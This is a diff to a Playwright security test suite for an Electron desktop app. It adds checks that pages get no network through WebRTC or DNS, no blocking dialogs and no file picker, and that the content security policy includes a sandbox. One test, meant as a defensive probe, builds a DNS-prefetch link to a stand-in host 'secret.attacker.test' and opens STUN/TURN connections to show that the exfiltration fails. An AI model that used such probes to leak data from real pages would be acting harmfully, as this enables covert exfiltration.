@@ -1,4 +1,8 @@
 /** Points of Electron's security checklist, on the running app. */
+import { createSocket } from 'node:dgram';
+import { readFile } from 'node:fs/promises';
+import { createServer, type AddressInfo } from 'node:net';
+import { join } from 'node:path';
 import { expect, test, type Page } from '@playwright/test';
 import { GRACE, TestApp } from '../support/test-app';
 import { findRow } from '../support/main-window';
@@ -7,12 +11,14 @@ import { startExternalServer, type ExternalServer } from './external-server';
 let testApp: TestApp;
 let external: ExternalServer;
 let page: Page;
+let networkLog: string;
 
 test.beforeAll(async () => {
   // A pinned window stays open when it loses the focus.
   testApp = await TestApp.create({ settings: { pollSeconds: 1, pinned: true, sound: 'bell' } });
   external = await startExternalServer();
-  await testApp.launchSignedIn({ args: [] });
+  networkLog = join(testApp.profile, '..', 'network.json');
+  await testApp.launchSignedIn({ args: [`--log-net-log=${networkLog}`] });
   page = await testApp.app.mainPage();
   await expect(page.getByText(/no calls right now/i).first()).toBeVisible();
 });
@@ -27,6 +33,10 @@ test.afterAll(async () => {
   // Proves that the external server records requests.
   await fetch(external.url);
   expect(external.requests).toHaveLength(1);
+  await testApp.app.quit();
+  const log = await readFile(networkLog, 'utf8');
+  expect(log).toContain('/sessions/my');
+  expect(log).not.toContain('attacker.test');
   await testApp.close();
   await external.close();
 });
@@ -52,6 +62,66 @@ test('1: loads only its own content', async () => {
   expect(loaded.length).toBeGreaterThan(2);
   for (const address of loaded) expect(address).toMatch(/^(ringside:\/\/window\/|data:)/);
   expect(await page.evaluate(() => isSecureContext)).toBe(true);
+});
+
+test('1: gives pages no network through WebRTC or DNS', async () => {
+  let packets = 0;
+  const udp = createSocket('udp4').on('message', () => (packets += 1));
+  const tcp = createServer((socket) => {
+    packets += 1;
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
+  const ports = { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port };
+  const candidate = await page.evaluate(async ({ udp, tcp }) => {
+    const link = document.createElement('link');
+    link.rel = 'dns-prefetch';
+    link.href = '//secret.attacker.test';
+    document.head.append(link);
+    const turn = { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' };
+    const connection = new RTCPeerConnection({
+      iceServers: [{ urls: `stun:127.0.0.1:${udp}` }, turn],
+    });
+    // With a network, the first event has a candidate; without, it's the end of the candidates.
+    const first = new Promise<string | undefined>((resolve) => {
+      connection.onicecandidate = ({ candidate }) => {
+        resolve(candidate?.candidate);
+      };
+    });
+    connection.createDataChannel('data');
+    const offer = await connection.createOffer();
+    await connection.setLocalDescription(offer);
+    const sdp = (offer.sdp ?? '').replace(/a=setup:.*/, 'a=setup:active');
+    await connection.setRemoteDescription({ type: 'answer', sdp });
+    await connection.addIceCandidate({
+      candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${udp} typ host`,
+      sdpMid: '0',
+      sdpMLineIndex: 0,
+    });
+    const candidate = await first;
+    connection.close();
+    link.remove();
+    return candidate;
+  }, ports);
+  udp.close();
+  tcp.close();
+  expect(candidate).toBeUndefined();
+  expect(packets).toBe(0);
+});
+
+test('7: shows no dialog that blocks the page', async () => {
+  // Returns at once, because the page is sandboxed without modal dialogs.
+  expect(
+    await page.evaluate(() => {
+      window.print();
+      return confirm('Continue?');
+    }),
+  ).toBe(false);
+});
+
+test('5: has no file picker', async () => {
+  expect(await page.evaluate(() => 'showSaveFilePicker' in window)).toBe(false);
 });
 
 test('2: gives pages no Node.js', async () => {
@@ -167,6 +237,7 @@ test('7: has a content security policy without inline, eval or other hosts', asy
     'form-action': "'none'",
     'frame-ancestors': "'none'",
     'object-src': "'none'",
+    sandbox: 'allow-scripts allow-same-origin allow-forms',
   });
 });
 
